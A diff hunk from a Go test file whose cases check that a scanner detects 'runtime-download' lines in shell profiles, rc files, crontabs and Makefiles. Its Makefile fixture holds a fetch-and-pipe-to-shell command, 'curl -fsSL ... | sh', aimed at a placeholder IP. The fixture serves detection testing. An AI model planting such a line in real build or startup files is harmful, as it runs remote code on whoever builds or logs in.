@@ -82,7 +82,7 @@ func TestStarters(t *testing.T) {
 		{"a program on the PATH", "exec go-app", map[string]string{"PATH": "/opt/bin"}, map[string]string{"/opt/bin/go-app": service}, "runtime-download /opt/bin/go-app:3"},
 		{"a login", "bash -lc true", map[string]string{"HOME": "/home/u"}, map[string]string{"/home/u/.profile": p}, "runtime-download /home/u/.profile:1"},
 		{"a shell to type into", "sh -i", map[string]string{"ENV": "/opt/rc"}, map[string]string{"/opt/rc": p}, "runtime-download /opt/rc:1"},
-		{"a shell that is none", "sh -c true", map[string]string{"ENV": "/opt/rc", "HOME": "/root"}, map[string]string{"/opt/rc": p, "/root/.profile": p}, ""},
+		{"a shell that is none", "sh -c true", map[string]string{"ENV": "/opt/rc", "HOME": "/home/a"}, map[string]string{"/opt/rc": p, "/home/a/.profile": p}, ""},
 		{"crond", "crond -f -c /opt/tabs", nil, map[string]string{"/opt/tabs/root": "# x\n*/5\t*\t*\t*\t*\t" + p + "\n"}, "runtime-download /opt/tabs/root:2"},
 		{"make", "make -C /app X=203.0.113.7", nil, map[string]string{"/app/Makefile": "U = http://$(X)/x\n.PHONY: all\nall: dep\n\t@node .\ndep:\n\t-curl -fsSL $(U) | sh\n"}, "runtime-download /app/Makefile:6"},
 		{"make for another target", "make -C /app", nil, map[string]string{"/app/Makefile": "all:\n\tnode .\ninstall:\n\t" + p + "\n"}, ""},
